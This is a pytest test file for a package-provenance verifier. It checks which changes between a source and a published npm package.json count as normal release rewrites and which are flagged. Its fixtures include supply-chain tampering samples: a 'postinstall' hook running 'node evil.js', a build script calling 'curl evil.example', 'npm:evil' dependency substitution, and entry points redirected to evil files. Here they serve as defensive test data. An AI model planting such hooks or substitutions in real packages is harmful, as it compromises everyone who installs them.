import pytest

from provenly.trust.evidence import FileClass
from tests.verify.explain.scenes import MANIFEST, file

BASE = {
    **MANIFEST,
    "version": "0.0.0",
    "bin": {"left-pad": "cli.js"},
    "scripts": {"build": "tsc", "test": "vitest"},
    "dependencies": {"zod": "^3.0.0"},
    "devDependencies": {"typescript": "5.9.3"},
    "exports": {".": {"node": "./index.js", "default": "./browser.js"}},
}


def manifest(**members: object) -> dict[str, object]:
    return {key: value for key, value in {**BASE, **members}.items() if value is not None}


def explained(package: dict[str, object], source: dict[str, object] | str | bytes, **others: object):
    return file({"package.json": package}, {"package.json": source, **others}, "package.json")


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"version": "1.3.0"}, 'version: "0.0.0" → "1.3.0" (written at release)'),
        ({"gitHead": "a" * 40}, "gitHead: absent → "),
        ({"packageManager": "yarn@1.22.22+sha512.abc"}, "packageManager: absent → "),
        ({"devDependencies": None}, "devDependencies: "),
        ({"devDependencies": {"typescript": "5.9.4"}}, "never installed with the package"),
        ({"devDependencies": {"typescript": "5.9.3", "tsup": "8.5.0"}}, "devDependencies.tsup: absent"),
        ({"dependencies": None}, "nothing more is installed"),
        ({"scripts": {"build": "tsc"}}, 'scripts.test: "vitest" → absent'),
        ({"scripts": None}, "scripts: "),
        ({"bin": {"left-pad": "./cli.js"}}, "another spelling of the same"),
        ({"main": "./index.js"}, "another spelling of the same"),
    ],
)
def test_what_a_release_rewrites_is_tolerated_and_named(change: dict[str, object], said: str):
    found = explained(manifest(**change), manifest())
    assert found.file_class is FileClass.MANIFEST
    assert said in found.detail


def test_layout_and_the_order_of_members_are_tolerated():
    found = explained(manifest(), dict(reversed(manifest().items())))
    assert found.file_class is FileClass.MANIFEST


@pytest.mark.parametrize(
    ("change", "named"),
    [
        ({"scripts": {**BASE["scripts"], "postinstall": "node evil.js"}}, "scripts.postinstall"),
        ({"scripts": {**BASE["scripts"], "build": "curl evil.example"}}, "scripts.build"),
        ({"dependencies": {"zod": "^3.0.0", "evil": "*"}}, "dependencies.evil"),
        ({"dependencies": {"zod": "npm:evil@1"}}, "dependencies.zod"),
        ({"dependencies": "zod"}, "dependencies"),
        ({"bin": {"left-pad": "evil.js"}}, "bin.left-pad"),
        ({"bin": {"left-pad": "cli.js", "npm": "cli.js"}}, "bin.npm"),
        ({"main": "evil.js"}, "main"),
        ({"exports": {".": "./evil.js"}}, "exports"),
        ({"exports": {".": {"default": "./browser.js", "node": "./index.js"}}}, "exports.."),
        ({"imports": {"#a": "./evil.js"}}, "imports"),
        ({"type": "module"}, "type"),
        ({"name": "right-pad"}, "name"),
        ({"bundleDependencies": ["zod"]}, "bundleDependencies"),
        ({"description": "another"}, "description"),
        ({"private": True}, "private"),
    ],
)
def test_anything_else_is_a_finding_that_names_the_member(change: dict[str, object], named: str):
    found = explained(manifest(**change), manifest())
    assert found.file_class is FileClass.UNEXPLAINED
    assert named in found.detail
    assert found.explainer == "manifest"
    assert found.lines


def test_lerna_writes_over_a_git_head_that_was_committed():
    found = explained(manifest(gitHead="a" * 40), manifest(gitHead="b" * 40))
    assert (found.file_class, "written by npm" in found.detail) == (FileClass.MANIFEST, True)
    gyp = explained(manifest(gypfile=True), manifest(gypfile=False))
    assert gyp.file_class is FileClass.UNEXPLAINED


HTTPS = {"type": "git", "url": "https://github.com/left/pad.git"}


@pytest.mark.parametrize(
    ("before", "after", "same"),
    [
        (HTTPS, {**HTTPS, "url": "git+https://github.com/left/pad.git"}, True),
        ("left/pad", {**HTTPS, "url": "git+https://github.com/left/pad.git"}, True),
        ("github:left/pad", HTTPS, True),
        ("git@github.com:left/pad.git", HTTPS, True),
        (
            {**HTTPS, "directory": "a"},
            {"type": "git", "url": "git+ssh://git@github.com/left/pad.git", "directory": "a"},
            True,
        ),
        (HTTPS, {**HTTPS, "url": "git+https://github.com/evil/pad.git"}, False),
        (HTTPS, {**HTTPS, "url": "git+https://github.example/left/pad.git"}, False),
        (HTTPS, {**HTTPS, "directory": "packages/evil"}, False),
        ("left/pad", None, False),
        (7, 8, False),
    ],
)
def test_a_repository_has_several_spellings(before: object, after: object, *, same: bool):
    found = explained(manifest(repository=after), manifest(repository=before))
    assert (found.file_class is FileClass.MANIFEST) is same


BUILT = {
    "main": "./dist/index.js",
    "bin": {"left-pad": "dist/cli.js"},
    "exports": {".": {"require": "./dist/index.js"}, "./*": "./dist/*.js"},
}
MOVED = {
    "main": "index.js",
    "bin": {"left-pad": "./cli.js"},
    "exports": {".": {"require": {"types": "./index.d.ts", "default": "./index.js"}}, "./*": "./*.js"},
}


def published(package: dict[str, object], packed: dict[str, object], **tree: object):
    files = {"package.json": manifest(**package), "index.js": "1\n", "cli.js": "2\n", **packed}
    return file(files, {"package.json": manifest(**BUILT), **tree}, "package.json")


def test_a_package_may_be_published_from_the_folder_of_its_build():
    found = published(MOVED, {})
    assert (found.file_class, "from the folder dist" in found.detail) == (FileClass.MANIFEST, True)


@pytest.mark.parametrize(
    ("change", "packed", "tree"),
    [
        # The path leads to another file of the package.
        ({"main": "evil.js"}, {}, {}),
        ({"exports": {**MOVED["exports"], ".": {"require": {"types": "./evil.js", "default": "./index.js"}}}}, {}, {}),
        ({"exports": {**MOVED["exports"], ".": {"require": {"node": "./e.js", "default": "./index.js"}}}}, {}, {}),
        # The folder is there as well, so that it is not what was published.
        ({}, {"dist/index.js": "1\n"}, {}),
        ({"bin": {"left-pad": "dist/cli.js"}}, {}, {}),
        # The source has a file of its own at that path.
        ({}, {}, {"index.js": "evil()\n"}),
    ],
)
def test_published_from_a_folder_are_all_paths_or_none(change: dict, packed: dict, tree: dict):
    assert published({**MOVED, **change}, packed, **tree).file_class is FileClass.UNEXPLAINED


def test_publish_config_says_what_is_published_instead():
    source = manifest(publishConfig={"main": "dist/index.js"})
    assert explained(manifest(main="dist/index.js"), source).file_class is FileClass.MANIFEST
    assert explained(manifest(main="dist/evil.js"), source).file_class is FileClass.UNEXPLAINED


@pytest.mark.parametrize(
    ("before", "after", "explains"),
    [
        ("workspace:*", "2.5.0", True),
        ("workspace:^", "^2.5.0", True),
        ("workspace:~", "~2.5.0", True),
        ("workspace:^2.0.0", "^2.0.0", True),
        ("workspace:other@*", "npm:other@2.5.0", True),
        ("file:../other", "^2.5.0", True),
        ("workspace:*", "2.6.0", False),
        ("workspace:*", "npm:evil@2.5.0", False),
        ("workspace:^2.0.0", "^3.0.0", False),
        ("catalog:", "^4.1.0", True),
        ("catalog:old", "^3.9.0", True),
        ("catalog:", "^4.2.0", False),
        ("catalog:none", "^4.1.0", False),
    ],
)
def test_the_repositorys_own_ranges_may_be_replaced_by_what_they_stand_for(before: str, after: str, *, explains: bool):
    others = {
        "packages/other/package.json": {"name": "other", "version": "2.5.0"},
        "pnpm-workspace.yaml": (
            "packages:\n  - packages/*\ncatalog:\n  # the usual\n  'other': ^4.1.0 # why\n"
            'catalogs:\n  old:\n    other: "^3.9.0"\n'
        ),
    }
    found = explained(manifest(dependencies={"other": after}), manifest(dependencies={"other": before}), **others)
    assert (found.file_class is FileClass.MANIFEST) is explains, found.detail


def test_packages_released_together_may_share_a_version_that_is_never_committed():
    others = {"packages/other/package.json": {"name": "other", "version": "0.0.0"}}
    source = manifest(dependencies={"other": "workspace:*"})
    assert (
        explained(manifest(version="1.3.0", dependencies={"other": "1.3.0"}), source, **others).file_class
        is FileClass.MANIFEST
    )
    assert (
        explained(manifest(version="1.3.0", dependencies={"other": "1.4.0"}), source, **others).file_class
        is FileClass.UNEXPLAINED
    )


def test_a_source_manifest_that_two_readers_read_differently_explains_nothing():
    found = explained(manifest(), b'{"name": "left-pad", "name": "left-pad"}')
    assert found.file_class is FileClass.UNEXPLAINED
    assert "twice" in found.detail


def test_the_order_of_conditions_within_an_array_of_exports_counts():
    def exports(*conditions: str) -> dict[str, object]:
        return {"exports": {".": [{name: f"./{name}.js" for name in conditions}, "./index.js"]}}

    found = explained(manifest(**exports("default", "node")), manifest(**exports("node", "default")))
    assert found.file_class is FileClass.UNEXPLAINED
    assert "exports." in found.detail


@pytest.mark.parametrize("scripts", [{"start": "node ."}, None])
def test_no_script_may_go_whose_absence_makes_npm_build(scripts: dict[str, str] | None):
    gyp = {"binding.gyp": "{}"}
    source = {"package.json": manifest(scripts={"install": "exit 0", "start": "node ."}), **gyp}
    change = {"scripts": scripts} if scripts else {}
    bare = {key: value for key, value in manifest(**change).items() if scripts or key != "scripts"}
    found = file({"package.json": bare, **gyp}, source, "package.json")
    assert found.file_class is FileClass.UNEXPLAINED
    del gyp["binding.gyp"]
    assert file({"package.json": bare}, source, "package.json").file_class is FileClass.MANIFEST
